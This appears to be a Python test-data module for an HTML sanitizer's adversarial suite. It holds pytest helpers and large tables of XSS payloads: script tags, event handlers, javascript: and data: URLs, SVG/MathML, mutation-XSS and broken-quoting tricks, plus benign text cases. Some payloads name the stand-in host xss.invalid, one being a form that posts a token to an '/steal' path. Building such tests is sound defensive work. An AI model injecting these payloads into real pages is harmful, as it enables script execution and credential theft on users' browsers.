"""Hostile and benign text for the adversarial suite, in tables with stable ids.

Every case has a slug; ``numbered()`` turns a table into pytest params whose ids carry the
position and the size of the table (``xss-017-of-168-svg-onload``), so the count of cases
shows in ``pytest -v`` and in the family summary at the end of every run.
"""

from __future__ import annotations

from collections.abc import Iterable, Sequence
from typing import Any

import pytest

# What the payloads try to run. The browser test listens for dialogs; the checks look for
# script-capable markup, whatever the payload calls.
JS = "alert(1)"


def numbered(prefix: str, cases: Sequence[tuple[str, Any]], *marks: Any) -> list[Any]:
    """pytest params with ids ``{prefix}-{n:03d}-of-{total}-{slug}``; a tuple value gives
    several arguments."""
    total = len(cases)
    slugs = [slug for slug, _value in cases]
    duplicates = {slug for slug in slugs if slugs.count(slug) > 1}
    assert not duplicates, f"repeated slugs in {prefix}: {sorted(duplicates)}"
    return [
        pytest.param(
            *(value if isinstance(value, tuple) else (value,)),
            id=f"{prefix}-{n:03d}-of-{total}-{slug}",
            marks=marks,
        )
        for n, (slug, value) in enumerate(cases, 1)
    ]


def _cases(*groups: Iterable[tuple[str, str]]) -> list[tuple[str, str]]:
    return [case for group in groups for case in group]


# 1. XSS ----------------------------------------------------------------------------------

SCRIPT_TAGS = [
    ("script-plain", "<script>alert(1)</script>"),
    ("script-upper", "<SCRIPT>alert(1)</SCRIPT>"),
    ("script-mixed-case-src", "<sCrIpT sRc=//xss.invalid/a.js></ScRiPt>"),
    ("script-slash-attr", "<script/xss src=//xss.invalid/b.js></script>"),
    ("script-nested-split", "<scr<script>ipt>alert(1)</scr</script>ipt>"),
    ("script-double-open", "<<script>alert(1);//<</script>"),
    ("script-comment-trick", "<script>/*</script><b>*/alert(1)</script>"),
    ("script-unclosed", "<script>alert(1)"),
    ("script-no-gt", "<script>alert(1)</script"),
    ("script-tab-in-name", "<script\t>alert(1)</script\t>"),
    ("script-newline-in-name", "<script\n>alert(1)</script\n>"),
    ("script-type-module", '<script type="module">import("//xss.invalid/m.js")</script>'),
    ("script-in-paragraph", "<p>hello <script>alert(1)</script> world</p>"),
    ("script-in-blockquote", "<blockquote><script>alert(1)</script></blockquote>"),
    ("script-in-pre", "<pre><script>alert(1)</script></pre>"),
    ("script-in-code", "<code><script>alert(1)</script></code>"),
    ("script-in-anchor", '<a href="https://ok.example/"><script>alert(1)</script></a>'),
    ("script-entity-escaped", "&lt;script&gt;alert(1)&lt;/script&gt;"),
    ("script-double-escaped", "&amp;lt;script&amp;gt;alert(1)&amp;lt;/script&amp;gt;"),
    ("script-null-in-name", "<scr\x00ipt>alert(1)</scr\x00ipt>"),
    ("script-numeric-ref-name", "&#60;script&#62;alert(1)&#60;/script&#62;"),
    ("script-fullwidth", "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e"),
    ("script-percent-encoded", "%3Cscript%3Ealert(1)%3C%2Fscript%3E"),
    ("script-src-data", '<script src="data:text/javascript,alert(1)"></script>'),
]

EVENT_HANDLERS = [
    ("img-onerror", "<img src=x onerror=alert(1)>"),
    ("img-onerror-quoted", '<img src="x" onerror="alert(1)">'),
    ("img-onerror-slashes", "<img/src=x/onerror=alert(1)>"),
    ("img-onerror-no-space", '<img src="x"onerror="alert(1)">'),
    ("img-onerror-spaced-equals", "<img src=x onerror  =  alert(1)>"),
    ("img-onerror-backticks", "<img src=`x`onerror=alert(1)>"),
    ("img-onerror-eval-src", "<img src=x:alert(alt) onerror=eval(src) alt=0>"),
    ("img-onerror-entity-value", "<img src=x onerror=&#97;lert(1)>"),
    ("body-onload", "<body onload=alert(1)>"),
    ("body-onpageshow", "<body onpageshow=alert(1)>"),
    ("html-onmouseover", "<html onmouseover=alert(1)>hover</html>"),
    ("input-autofocus", "<input autofocus onfocus=alert(1)>"),
    ("textarea-autofocus", "<textarea autofocus onfocus=alert(1)>x</textarea>"),
    ("select-autofocus", "<select autofocus onfocus=alert(1)><option>x</option></select>"),
    ("details-ontoggle", "<details open ontoggle=alert(1)><summary>x</summary></details>"),
    ("video-source-onerror", "<video><source onerror=alert(1)></video>"),
    ("audio-src-onerror", "<audio src=x onerror=alert(1)></audio>"),
    ("marquee-onstart", "<marquee onstart=alert(1)>x</marquee>"),
    ("iframe-onload", "<iframe onload=alert(1)></iframe>"),
    ("object-onerror", "<object data=x onerror=alert(1)></object>"),
    ("b-onclick", "<b onclick=alert(1)>click</b>"),
    ("a-onmouseover", '<a href="https://ok.example/" onmouseover="alert(1)">x</a>'),
    ("a-hash-onclick", '<a href="#c1" onclick="alert(1)">quote</a>'),
    ("p-onpointerenter", "<p onpointerenter=alert(1)>move</p>"),
    ("abbr-title-onclick", '<abbr title="x" onclick="alert(1)">x</abbr>'),
    ("blockquote-onanimation", "<blockquote onanimationstart=alert(1)>x</blockquote>"),
    ("custom-element-onclick", "<x-widget onclick=alert(1)>x</x-widget>"),
    ("unknown-element-onfocus", "<xss tabindex=1 autofocus onfocus=alert(1)>x</xss>"),
    ("dialog-onclose", "<dialog open onclose=alert(1)><form method=dialog><button>x</button>"),
    ("contenteditable-onblur", "<div contenteditable onblur=alert(1)>x</div>"),
    ("ol-start-injected", '<ol start="1 onclick=alert(1)"><li>x</li></ol>'),
    ("attribute-name-on-upper", "<b ONCLICK=alert(1)>x</b>"),
    ("attribute-duplicated-on", '<b title="a" title="b" onclick="alert(1)">x</b>'),
    ("keygen-autofocus", "<keygen autofocus onfocus=alert(1)>"),
]

_URL_SCHEMES = [
    ("javascript", "javascript:alert(1)"),
    ("javascript-upper", "JAVASCRIPT:alert(1)"),
    ("javascript-mixed", "JaVaScRiPt:alert(1)"),
    ("javascript-leading-space", " javascript:alert(1)"),
    ("javascript-leading-ctrl", "\x01javascript:alert(1)"),
    ("javascript-tab", "java\tscript:alert(1)"),
    ("javascript-newline", "java\nscript:alert(1)"),
    ("javascript-cr", "java\rscript:alert(1)"),
    ("javascript-null", "java\x00script:alert(1)"),
    ("javascript-entity-tab", "java&#x09;script:alert(1)"),
    ("javascript-entity-tab-dec", "java&#9;script:alert(1)"),
    ("javascript-entity-newline", "java&#10;script:alert(1)"),
    ("javascript-named-tab", "java&Tab;script:alert(1)"),
    ("javascript-named-newline", "java&NewLine;script:alert(1)"),
    ("javascript-entity-null", "java&#0;script:alert(1)"),
    ("javascript-hex-j", "&#x6A;avascript:alert(1)"),
    ("javascript-padded-dec", "&#0000106;avascript:alert(1)"),
    ("javascript-all-entities", "".join(f"&#{ord(c)};" for c in "javascript:") + "alert(1)"),
    ("javascript-entity-colon", "javascript&colon;alert(1)"),
    ("javascript-dec-colon", "javascript&#58;alert(1)"),
    ("javascript-hex-colon-nosemi", "javascript&#x3A alert(1)"),
    ("javascript-comment-newline", "javascript://%0Aalert(1)"),
    ("javascript-line-separator", "\u2028javascript:alert(1)"),
    ("data-html-base64", "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="),
    ("data-html-plain", "data:text/html,<script>alert(1)</script>"),
    ("data-upper", "DATA:text/html,<script>alert(1)</script>"),
    ("data-svg", "data:image/svg+xml,<svg onload=alert(1)>"),
    ("data-entity-a", "d&#97;ta:text/html,<script>alert(1)</script>"),
    ("vbscript", "vbscript:msgbox(1)"),
    ("vbscript-mixed", "VbScRiPt:MsgBox(1)"),
    ("vbscript-entity", "vb&#x73;cript:msgbox(1)"),
    ("livescript", "livescript:alert(1)"),
]

URL_SCHEMES = [
    *((f"href-{slug}", f'<a href="{url}">link</a>') for slug, url in _URL_SCHEMES),
    *(
        (f"href-unquoted-{slug}", f"<a href={url}>link</a>")
        for slug, url in _URL_SCHEMES[:6]
        if " " not in url
    ),
    ("href-single-quoted", "<a href='javascript:alert(1)'>link</a>"),
    ("href-duplicated", '<a href="https://ok.example/" href="javascript:alert(1)">x</a>'),
    ("href-first-wins-bad", '<a href="javascript:alert(1)" href="https://ok.example/">x</a>'),
    ("cite-javascript", '<blockquote cite="javascript:alert(1)">x</blockquote>'),
    ("q-cite-vbscript", '<q cite="vbscript:msgbox(1)">x</q>'),
    ("img-src-javascript", '<img src="javascript:alert(1)">'),
    ("img-src-data-svg", '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">'),
    ("bare-javascript-text", "see javascript:alert(1) for details"),
    ("bare-data-text", "open data:text/html,<script>alert(1)</script> now"),
    ("linkify-quote-break", 'https://ok.example/"onmouseover="alert(1)'),
    ("linkify-angle-break", "https://ok.example/<svg/onload=alert(1)>"),
    ("linkify-www-script", "www.example.org/<script>alert(1)</script>"),
]

SVG_MATHML = [
    ("svg-onload", "<svg onload=alert(1)>"),
    ("svg-slash-onload", "<svg/onload=alert(1)>"),
    ("svg-script", "<svg><script>alert(1)</script></svg>"),
    ("svg-script-href", '<svg><script href="data:,alert(1)"/></svg>'),
    ("svg-xlink-href", '<svg><a xlink:href="javascript:alert(1)"><text y="20">x</text></a></svg>'),
    ("svg-animate-onbegin", "<svg><animate onbegin=alert(1) attributeName=x dur=1s>"),
    ("svg-set-href", '<svg><a><set attributeName="href" to="javascript:alert(1)"/><text>x</text>'),
    ("svg-use-data", '<svg><use href="data:image/svg+xml,<svg id=x onload=alert(1)>#x"/></svg>'),
    ("svg-foreignobject", "<svg><foreignObject><iframe srcdoc='<script>alert(1)</script>'>"),
    ("svg-style-img", "<svg><style><img src=x onerror=alert(1)></style></svg>"),
    ("svg-title-breakout", "<svg><title><img src=x onerror=alert(1)></title></svg>"),
    ("svg-image-onerror", "<svg><image href=x onerror=alert(1)></svg>"),
    ("math-href", '<math href="javascript:alert(1)">click</math>'),
    ("math-maction", '<math><maction actiontype="statusline" xlink:href="javascript:alert(1)">x'),
    ("math-mglyph-style", "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>"),
    ("math-mi-xlink", '<math><mi xlink:href="javascript:alert(1)">x</mi></math>'),
    (
        "math-annotation-html",
        '<math><annotation-xml encoding="text/html"><img src onerror=alert(1)>',
    ),
]

STYLES = [
    ("style-attr-url", '<b style="background:url(javascript:alert(1))">x</b>'),
    ("style-attr-expression", '<p style="width:expression(alert(1))">x</p>'),
    ("style-attr-behavior", '<i style="behavior:url(xss.htc)">x</i>'),
    ("style-attr-overlay", '<a href="https://ok.example/" style="position:fixed;inset:0">x</a>'),
    ("style-element-import", "<style>@import 'https://xss.invalid/x.css';</style>"),
    ("style-element-js-url", "<style>*{background:url('javascript:alert(1)')}</style>"),
    ("style-element-breakout", "<style></style><img src=x onerror=alert(1)></style>"),
    ("link-stylesheet", '<link rel="stylesheet" href="javascript:alert(1)">'),
]

META_BASE_FORMS = [
    ("meta-refresh-js", '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">'),
    ("meta-refresh-data", "<meta http-equiv=refresh content='0; url=data:text/html,<script>'>"),
    ("meta-refresh-offsite", '<META HTTP-EQUIV="REFRESH" CONTENT="0;URL=https://xss.invalid/">'),
    ("meta-set-cookie", '<meta http-equiv="Set-Cookie" content="session=stolen">'),
    ("meta-csp-override", '<meta http-equiv="Content-Security-Policy" content="script-src *">'),
    ("meta-charset-utf7", '<meta charset="UTF-7">+ADw-script+AD4-alert(1)+ADw-/script+AD4-'),
    ("base-href-js", '<base href="javascript:alert(1)//">'),
    ("base-href-offsite", '<base href="https://xss.invalid/">'),
    ("base-upper", "<BASE HREF=//xss.invalid/>"),
    ("form-action-js", '<form action="javascript:alert(1)"><input type=submit value=go></form>'),
    ("button-formaction", "<form><button formaction=javascript:alert(1)>go</button></form>"),
    ("input-formaction", "<input type=submit formaction=javascript:alert(1) value=go>"),
    ("button-form-attr", '<button form="x" formaction="javascript:alert(1)">go</button>'),
    ("isindex-action", "<isindex action=javascript:alert(1) type=submit>"),
    ("form-offsite", '<form action="https://xss.invalid/steal" method=post><input name=token>'),
]

FRAMES_EMBEDS = [
    ("iframe-srcdoc", '<iframe srcdoc="<script>alert(1)</script>"></iframe>'),
    ("iframe-srcdoc-escaped", '<iframe srcdoc="&lt;img src=x onerror=alert(1)&gt;"></iframe>'),
    ("iframe-src-js", '<iframe src="javascript:alert(1)"></iframe>'),
    ("iframe-src-data", '<iframe src="data:text/html,<script>alert(1)</script>"></iframe>'),
    ("frameset-frame", "<frameset><frame src=javascript:alert(1)></frameset>"),
    ("object-data-js", '<object data="javascript:alert(1)"></object>'),
    ("object-scriptlet", '<object type="text/x-scriptlet" data="https://xss.invalid/x"></object>'),
    ("embed-src-data", '<embed src="data:image/svg+xml,<svg onload=alert(1)>">'),
    ("embed-code", "<embed code=javascript:alert(1)></embed>"),
    ("applet-code", '<applet code="javascript:alert(1)"></applet>'),
    ("portal-src", '<portal src="javascript:alert(1)"></portal>'),
]

MUTATION = [
    ("mxss-noscript-title", '<noscript><p title="</noscript><img src=x onerror=alert(1)>">'),
    ("mxss-template-img", "<template><img src=x onerror=alert(1)></template>"),
    ("mxss-template-nested", "<template><template><script>alert(1)</script></template></template>"),
    ("mxss-svg-p-style", '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">'),
    (
        "mxss-math-mtext-textarea",
        '<math><mtext><textarea><path id="</textarea><img src onerror=alert(1)>">',
    ),
    (
        "mxss-form-math",
        "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    ),
    ("mxss-svg-p-style-title", '<svg><p><style><g title="</style><img src=x onerror=alert(1)>">'),
    ("mxss-noembed", '<noembed><img title="</noembed><img src=x onerror=alert(1)>"></noembed>'),
    ("mxss-noframes", '<noframes><img title="</noframes><img src=x onerror=alert(1)>">'),
    ("mxss-xmp", '<xmp><img title="</xmp><img src=x onerror=alert(1)>"></xmp>'),
    ("mxss-textarea-breakout", "<textarea></textarea><img src=x onerror=alert(1)>"),
    ("mxss-title-breakout", '<title><img title="</title><img src=x onerror=alert(1)>"></title>'),
    ("mxss-iframe-text", '<iframe><img title="</iframe><img src=x onerror=alert(1)>"></iframe>'),
    ("mxss-select-template", "<select><template><style><img src=x onerror=alert(1)>"),
    ("mxss-table-style", "<table><td><style></table><img src=x onerror=alert(1)>"),
    ("mxss-comment-bang", "<!--><img src=x onerror=alert(1)>-->"),
    ("mxss-comment-dash-bang", "<!-- --!><img src=x onerror=alert(1)>-->"),
    ("mxss-comment-in-attr", '<b title="<!--">--><img src=x onerror=alert(1)></b>'),
    ("mxss-cdata-html", "<![CDATA[><img src=x onerror=alert(1)>]]>"),
    ("mxss-processing-instruction", "<?xml ><img src=x onerror=alert(1)>?>"),
    ("mxss-doctype", "<!DOCTYPE html><img src=x onerror=alert(1)>"),
    ("mxss-plaintext", "<plaintext><img src=x onerror=alert(1)>"),
    (
        "mxss-nested-anchors",
        '<a href="https://ok.example/"><a href="javascript:alert(1)">x</a></a>',
    ),
    ("mxss-style-in-svg-foreign", '<svg><style><img src="</style><img src=x onerror=alert(1)>">'),
    ("mxss-math-style-escape", "<math><style><img src=x onerror=alert(1)></style></math>"),
    (
        "mxss-noscript-comment",
        "<noscript><!--</noscript><img src=x onerror=alert(1)>--></noscript>",
    ),
    ("mxss-listing", "<listing>&lt;img src=x onerror=alert(1)&gt;</listing>"),
    ("mxss-svg-cdata", "<svg><![CDATA[><img src=x onerror=alert(1)>]]></svg>"),
]

BROKEN_QUOTING = [
    ("broken-unclosed-onerror", '<img src="x" onerror="alert(1)'),
    ("broken-trailing-comment", "<img src=x onerror=alert(1)//"),
    ("broken-unclosed-href", '<a href="javascript:alert(1)'),
    ("broken-open-quote-attr", "<a href='javascript:alert(1)' "),
    ("broken-tag-in-tag", "<b <script>alert(1)</script>0"),
    ("broken-attr-breakout-dq", '"><script>alert(1)</script>'),
    ("broken-attr-breakout-sq", "'><img src=x onerror=alert(1)>"),
    ("broken-textarea-close", "</textarea><script>alert(1)</script>"),
    ("broken-title-close", "</title><script>alert(1)</script>"),
    ("broken-comment-close", "--><script>alert(1)</script>"),
    ("broken-quotes-in-attr", '<img """><script>alert(1)</script>">'),
    ("broken-attr-no-space", '<a href="https://ok.example/"title="a"onclick="alert(1)">x</a>'),
    ("broken-spaced-slash", "<img src= x onerror = alert(1) / >"),
    ("broken-slash-href", "<a/href=javascript&colon;alert(1)>x</a>"),
    ("broken-formfeed-href", "<a\x0chref=javascript:alert(1)>x</a>"),
    ("broken-entity-quote-title", '<a title="x&quot; onclick=&quot;alert(1)">x</a>'),
    ("broken-close-p-img", "</p><img src=x onerror=alert(1)>"),
    ("broken-end-tag-attrs", "<b>x</b onclick=alert(1)>"),
    ("broken-unclosed-blockquote-script", "<blockquote><p>quote<script>alert(1)"),
    ("broken-lt-before-tag", "<<img src=x onerror=alert(1)>>"),
    (
        "broken-encoded-href-quote",
        '<a href="https://ok.example/&quot;onmouseover=&quot;alert(1)">x</a>',
    ),
    ("broken-abbr-title-breakout", '<abbr title="&quot;><script>alert(1)</script>">x</abbr>'),
    ("broken-many-unclosed", "<b><i><u><s><em><strong><script>alert(1)"),
    ("broken-long-attr-junk", "<img " + "a=b " * 40 + "onerror=alert(1) src=x>"),
]

XSS_PAYLOADS: list[tuple[str, str]] = _cases(
    SCRIPT_TAGS,
    EVENT_HANDLERS,
    URL_SCHEMES,
    SVG_MATHML,
    STYLES,
    META_BASE_FORMS,
    FRAMES_EMBEDS,
    MUTATION,
    BROKEN_QUOTING,
)

# A sample rendered in a real browser: one or more of each kind.
BROWSER_SAMPLE = [
    "script-plain",
    "script-nested-split",
    "img-onerror",
    "img-onerror-slashes",
    "details-ontoggle",
    "input-autofocus",
    "href-javascript-entity-tab",
    "href-data-html-base64",
    "svg-onload",
    "svg-foreignobject",
    "math-mglyph-style",
    "style-element-breakout",
    "meta-refresh-js",
    "base-href-js",
    "iframe-srcdoc",
    "mxss-noscript-title",
    "mxss-svg-p-style",
    "mxss-form-math",
    "mxss-comment-bang",
    "broken-attr-breakout-dq",
    "broken-unclosed-onerror",
    "linkify-quote-break",
]

# Text that must come through as the reader meant it: (what is written, what a reader of
# the page sees, white space folded; None: the same as written).
BENIGN: list[tuple[str, tuple[str, str | None]]] = [
    ("heart", ("I <3 this thread", None)),
    ("a-lt-b-gt-c", ("a < b > c", None)),
    ("comparison-words", ("if x<y and y>z then x<z", None)),
    ("arrow", ("x -> y <- z", None)),
    ("shift-operators", ("1 << 4 == 16 and 16 >> 2 == 4", None)),
    (
        "code-inline",
        (
            "<code>for (i = 0; i < n; i++) { a[i] = b[i] > 0 ? 1 : 0; }</code>",
            "for (i = 0; i < n; i++) { a[i] = b[i] > 0 ? 1 : 0; }",
        ),
    ),
    (
        "code-pre-html",
        ('<pre><code>&lt;div class="x"&gt;hi&lt;/div&gt;</code></pre>', '<div class="x">hi</div>'),
    ),
    ("python-snippet", ("def f(x):\n    return x if x < 10 else -x", None)),
    ("maths-inequality", ("0 < \u03b5 < 1 and \u2200x \u2208 \u211d: x\u00b2 \u2265 0", None)),
    ("maths-tex", ("$\\sum_{i=1}^{n} i = \\frac{n(n+1)}{2}$ and $a<b$", None)),
    ("ampersands", ("Tom & Jerry & friends; AT&T; &c.", None)),
    (
        "entity-looking",
        ("write &amp; for an ampersand, &lt; for <", "write & for an ampersand, < for <"),
    ),
    ("emoji", ("Great post \U0001f44d\U0001f3fd \U0001f9d1\u200d\U0001f4bb \u2764\ufe0f", None)),
    ("emoji-flags", ("\U0001f1eb\U0001f1f7 vs \U0001f1e9\U0001f1ea", None)),
    (
        "rtl-arabic",
        ("\u0645\u0631\u062d\u0628\u0627 \u0628\u0627\u0644\u0639\u0627\u0644\u0645", None),
    ),
    ("rtl-hebrew", ("\u05e9\u05dc\u05d5\u05dd \u05e2\u05d5\u05dc\u05dd, a < b", None)),
    (
        "cjk",
        ("\u4f60\u597d\uff0c\u4e16\u754c\u3002\u3053\u3093\u306b\u3061\u306f\u4e16\u754c", None),
    ),
    ("korean", ("\uc548\ub155\ud558\uc138\uc694 \uc138\uacc4", None)),
    ("combining", ("Cafe\u0301 na\u0308ive", None)),
    ("quotes-apostrophes", ("It's \"quoted\" and 'single' \u2014 \u201ccurly\u201d", None)),
    ("angle-brackets-email", ("Write to <ada@example.org> please", None)),
    ("url-plain", ("See https://example.org/page?a=1&b=2 for more", None)),
    (
        "bold-and-italic",
        ("<b>bold</b> and <i>italic</i> and <em>em</em>", "bold and italic and em"),
    ),
    ("blockquote", ("<blockquote>quoted words</blockquote>my answer", "quoted words my answer")),
    ("bidi-marks", ("\u202bright to left\u202c and \u200fmark\u200e", None)),
]
